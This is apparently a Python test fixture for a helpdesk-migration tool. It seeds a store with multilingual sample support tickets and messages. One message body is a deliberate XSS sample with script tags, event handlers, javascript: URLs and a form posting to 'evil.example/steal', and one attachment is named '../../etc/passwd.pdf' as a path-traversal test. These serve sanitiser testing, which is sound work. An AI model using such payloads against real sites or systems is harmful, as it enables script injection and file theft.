"""A small multilingual store for the workspace tests, imported through the ingestor."""

from __future__ import annotations

import base64
from datetime import UTC, datetime, timedelta

from deskmove.records import AttachmentRec, Batch, MessageRec, PersonRef, TicketRec
from deskmove.store import Store

PASSWORD = "correct horse battery"
T0 = datetime(2026, 11, 2, 8, 30, tzinfo=UTC)
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)

XSS_HTML = """<p>Dobrý den,</p>
<script>window.__xss = 1; document.title = 'pwned'</script>
<img src="x" onerror="window.__xss = 2">
<a href="javascript:window.__xss = 3">klikněte</a>
<svg onload="window.__xss = 4"><circle r="4"/></svg>
<div style="width: expression(window.__xss = 5); background: url(javascript:window.__xss = 6)">styled</div>
<iframe src="javascript:window.__xss = 7"></iframe>
<form action="https://evil.example/steal"><input name="x"></form>
<img src="https://tracker.example/pixel.gif" alt="tracker">
<img src="cid:logo@shop.example" alt="logo">
<blockquote>Původní zpráva od zákazníka</blockquote>
"""

RAW_MAIL = (
    b"From: Jana Dvorakova <jana@zakaznik.cz>\r\nTo: support@shop.example\r\n"
    b"Subject: =?utf-8?q?Reklamace_=C5=BElu=C5=A5ou=C4=8Dk=C3=BD_k=C5=AF=C5=88?=\r\n"
    b"Message-ID: <first@zakaznik.cz>\r\n\r\nDobry den\r\n"
)


def seed(store: Store, extra_tickets: int = 0) -> dict[str, int]:
    """Import the sample tickets; returns their store ids by name."""
    png = store.blobs.put(PNG)
    doc = store.blobs.put(b"%PDF-1.4 not really\n")
    raw = store.blobs.put(RAW_MAIL)
    jana = PersonRef(email="jana@zakaznik.cz", name="Jana Dvořáková")
    eva = PersonRef(email="eva@shop.example", name="Eva Nováková", role="agent")
    tickets = [
        TicketRec(
            native_id="t-cz",
            subject="Reklamace: žluťoučký kůň",
            status="open",
            channel="email",
            requester=jana,
            tags=["reklamace", "vip"],
            group="Podpora",
            created_at=T0,
            updated_at=T0 + timedelta(hours=3),
            messages=[
                MessageRec(
                    native_id="m1",
                    created_at=T0,
                    author=jana,
                    subject="Reklamace: žluťoučký kůň",
                    body_text="Dobrý den,\nkoupila jsem žluťoučkého koně a úpěl ďábelské ódy.\n\nS pozdravem Jana",
                    message_id="<first@zakaznik.cz>",
                    created_tz=60,
                    raw_sha256=raw,
                    attachments=[
                        AttachmentRec(
                            sha256=doc,
                            size=20,
                            filename="../../etc/passwd.pdf",
                            content_type="application/pdf",
                        )
                    ],
                ),
                MessageRec(
                    native_id="m2",
                    created_at=T0 + timedelta(hours=2),
                    author=eva,
                    direction="outbound",
                    subject="Re: Reklamace: žluťoučký kůň",
                    body_text="Dobrý den, posíláme nového.\n\nDne 2. 11. 2026 Jana napsal(a):\n> koupila jsem\n> žluťoučkého koně",
                    message_id="<reply1@shop.example>",
                    in_reply_to="<first@zakaznik.cz>",
                    references=["<first@zakaznik.cz>"],
                ),
                MessageRec(
                    native_id="m3",
                    created_at=T0 + timedelta(hours=3),
                    author=jana,
                    subject="Re: Reklamace",
                    body_html=XSS_HTML,
                    body_text="Dobrý den, styled",
                    message_id="<second@zakaznik.cz>",
                    in_reply_to="<reply1@shop.example>",
                    references=["<first@zakaznik.cz>", "<reply1@shop.example>"],
                    attachments=[
                        AttachmentRec(
                            sha256=png,
                            size=len(PNG),
                            filename="logo.png",
                            content_type="image/png",
                            content_id="<logo@shop.example>",
                            inline=True,
                        )
                    ],
                ),
            ],
        ),
        TicketRec(
            native_id="t-pl",
            subject="Zażółć gęślą jaźń",
            status="new",
            channel="web",
            requester=PersonRef(email="lukasz@klient.pl", name="Łukasz Żółć"),
            created_at=T0 + timedelta(days=1),
            updated_at=T0 + timedelta(days=1),
            tags=["faktura"],
            messages=[
                MessageRec(
                    native_id="m4",
                    created_at=T0 + timedelta(days=1),
                    body_text="Proszę o fakturę za zamówienie 4711.",
                    author=PersonRef(email="lukasz@klient.pl", name="Łukasz Żółć"),
                    message_id="<pl@klient.pl>",
                )
            ],
        ),
        TicketRec(
            native_id="t-ru",
            subject="Вопрос о доставке",
            status="pending",
            channel="email",
            requester=PersonRef(email="olga@pochta.ru", name="Ольга Ёлкина"),
            assignee=eva,
            created_at=T0 + timedelta(days=2),
            updated_at=T0 + timedelta(days=2),
            messages=[
                MessageRec(
                    native_id="m5",
                    created_at=T0 + timedelta(days=2),
                    body_text="Где мой заказ? Ёлка не пришла.",
                    author=PersonRef(email="olga@pochta.ru", name="Ольга Ёлкина"),
                    message_id="<ru@pochta.ru>",
                )
            ],
        ),
        TicketRec(
            native_id="t-de",
            subject="Größe der Lieferung",
            status="solved",
            channel="phone",
            requester=PersonRef(email="juergen@kunde.de", name="Jürgen Weiß"),
            created_at=T0 - timedelta(days=3),
            updated_at=T0 - timedelta(days=2),
            solved_at=T0 - timedelta(days=2),
            messages=[
                MessageRec(
                    native_id="m6",
                    created_at=T0 - timedelta(days=3),
                    body_text="Die Straße ist zu schmal für große Lkw.",
                    author=PersonRef(email="juergen@kunde.de", name="Jürgen Weiß"),
                )
            ],
        ),
    ]
    for i in range(extra_tickets):
        at = T0 - timedelta(days=10, minutes=i)
        tickets.append(
            TicketRec(
                native_id=f"bulk-{i}",
                subject=f"Bulk question {i}",
                status="open",
                channel="email",
                requester=PersonRef(email=f"c{i}@example.com"),
                created_at=at,
                updated_at=at,
                messages=[
                    MessageRec(
                        native_id=f"bm-{i}",
                        created_at=at,
                        body_text=f"text {i}",
                        author=PersonRef(email=f"c{i}@example.com"),
                    )
                ],
            )
        )
    run = store.begin_run("import", "seed")
    store.ingestor("seed", run).ingest(Batch(tickets=tickets, read=len(tickets)))
    store.finish_run(run, "done", {})
    import sqlalchemy as sa

    from deskmove.model import Provenance

    p = Provenance.__table__.c
    with store.begin() as conn:
        rows = conn.execute(
            sa.select(p.native_id, p.entity_id).where(
                p.connection == "seed", p.kind.in_(["ticket", "message"])
            )
        )
        return dict(rows.all())
